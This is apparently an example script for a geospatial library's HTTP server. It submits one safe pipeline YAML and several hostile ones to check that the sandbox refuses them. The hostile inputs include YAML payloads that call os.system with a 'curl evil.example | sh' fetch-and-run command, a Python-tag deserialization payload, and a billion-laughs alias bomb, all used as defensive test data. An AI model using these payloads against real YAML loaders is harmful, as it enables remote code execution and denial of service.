"""Seed case 6 over HTTP -- users submit pipeline YAML to a running server; the sandbox decides.

The HTTP variant of ``06_user_uploaded_pipelines.py``: the same submissions, sent to
``POST /pipelines`` of a server started with ``georax serve`` (its own process, on 127.0.0.1).
The server loads each document with the sandboxed loader (allow-listed operators only, document
limits, no Python tags), pre-checks and prices it for the declared input shape against its memory
and FLOP budgets, compiles it, and answers:

- ``201`` with the pipeline's name, ``config_hash``, ``pipeline_digest`` and price, or
- ``4xx`` JSON naming the typed georax error (``UntrustedTargetError`` with the refused target,
  ``BudgetExceededError`` with the stage, ``SandboxLimitError`` with the limit...), never a
  traceback -- and it keeps answering.

An accepted pipeline is then used like any other: ``POST /process/{name}`` with a GeoTIFF upload.
No code from a submission ever runs; only registered, concrete, YAML-safe georax operators can
be named.

Run: ``python examples/06_http_upload.py [--out-dir DIR]`` (default ``georax-out/06``).
"""

from __future__ import annotations

import argparse
from pathlib import Path

import httpx
import yaml

import georax as gx
import georax.data as gd
from georax.serve import free_port, server_process

SHAPE = [7, 256, 256]

SAFE = """
_target_: georax.Sequential
operators:
  - {_target_: georax.geo.cloud.MaskClouds, qa_band: -1, bits: [10, 11]}
  - {_target_: georax.geo.radiometry.DNToReflectance}
  - {_target_: georax.geo.indices.NDVI, red_band: 2, nir_band: 3}
"""

MALICIOUS = """
_target_: georax.Sequential
operators:
  - {_target_: georax.geo.cloud.MaskClouds, qa_band: -1, bits: [10, 11]}
  - {_target_: os.system, command: "curl evil.example | sh"}
"""

PYTHON_TAG = '!!python/object/apply:os.system ["curl evil.example | sh"]\n'

BILLION_LAUGHS = (
    "_target_: georax.GetItem\nitem:\n  - &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    + "".join(
        f"  - &{n} [{', '.join([f'*{p}'] * 9)}]\n"
        for p, n in zip("abcdefgh", "bcdefghi", strict=True)
    )
)

# Only allowed operators, but a stride of 1 with 4096 chips per batch: a 1.5 GiB intermediate.
OVER_BUDGET = """
_target_: georax.patch.operators.Patchwise
patcher:
  _target_: georax.patch.patcher.Patcher
  geometry: {_target_: georax.patch.geometry.Rectangular, size: [128, 128]}
  sampler: {_target_: georax.patch.samplers.RegularStride, stride: [1, 1]}
operator: {_target_: georax.geo.indices.NDVI, red_band: 2, nir_band: 3}
batch_size: 4096
"""

HUGE_WINDOW = """
_target_: georax.patch.operators.Patchwise
patcher:
  _target_: georax.patch.patcher.Patcher
  geometry: {_target_: georax.patch.geometry.Rectangular, size: [1000000001, 1000000001]}
  sampler: {_target_: georax.patch.samplers.RegularStride, stride: [1000000001, 1000000001]}
operator: {_target_: georax.Identity}
"""

TYPO = "{_target_: georax.geo.indices.NDVI, red_band: 2, nri: 3}"

SUBMISSIONS = [
    ("safe submission", SAFE, 201),
    ("the same again", SAFE, 200),
    ("malicious _target_", MALICIOUS, 403),
    ("python tag", PYTHON_TAG, 422),
    ("billion laughs", BILLION_LAUGHS, 422),
    ("over budget", OVER_BUDGET, 422),
    ("huge window", HUGE_WINDOW, 422),
    ("typo in a field", TYPO, 422),
]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out-dir", type=Path, default=Path("georax-out/06"))
    args = parser.parse_args()
    out = args.out_dir.resolve()
    out.mkdir(parents=True, exist_ok=True)
    services = out / "services.yaml"
    services.write_text(
        yaml.safe_dump(
            {
                "server": {
                    "output_root": "outputs",
                    "memory_budget": "256MiB",
                    "flop_budget": 1e8,
                    "pricing_seconds": 300,
                    "uploads": {"max_pipelines": 8},
                }
            }
        )
    )
    scene = gd.sentinel2_l1c(SHAPE[-1], seed=0)
    gx.io.write_cog(scene, out / "scene.tif")
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    command = ["-m", "georax.cli", "serve", str(services), "--port", str(port)]
    print(f"starting: georax serve {services} --port {port}\n")
    failures = []
    with (
        server_process(command, f"{base}/health", log=out / "server.log"),
        httpx.Client(base_url=base, timeout=300) as client,
    ):
        accepted = None
        for label, text, expected in SUBMISSIONS:
            r = client.post(
                "/pipelines",
                json={"yaml": text, "shape": SHAPE, "name": "ndvi" if text is SAFE else None},
            )
            body = r.json()
            if r.status_code in (200, 201):
                accepted = body["name"]
                detail = f"name={body['name']} config_hash={body['config_hash'][:16]}"
                if "price" in body:
                    detail += f" peak={body['price']['peak_bytes'] / 2**20:.1f} MiB"
            else:
                detail = f"{body['error']}: {body['message'][:110]}"
            print(f"{label}: HTTP {r.status_code}\n    {detail}")
            if r.status_code != expected:
                failures.append(label)
            assert client.get("/health").status_code == 200  # still answering
        print(f"\nGET /pipelines -> {client.get('/pipelines').json()}")
        r = client.post(
            f"/process/{accepted}?stats=true",
            files={"file": ("scene.tif", (out / "scene.tif").read_bytes())},
        )
        r.raise_for_status()
        result = r.json()
        print(
            f"POST /process/{accepted}?stats=true -> {result['output']}, shape "
            f"{result['shape']}, mean NDVI {result['stats'][0]['mean']:.3f}"
        )
    if failures:
        raise SystemExit(f"unexpected status for: {failures}")
    print(f"\noutputs in {out}")


if __name__ == "__main__":
    main()
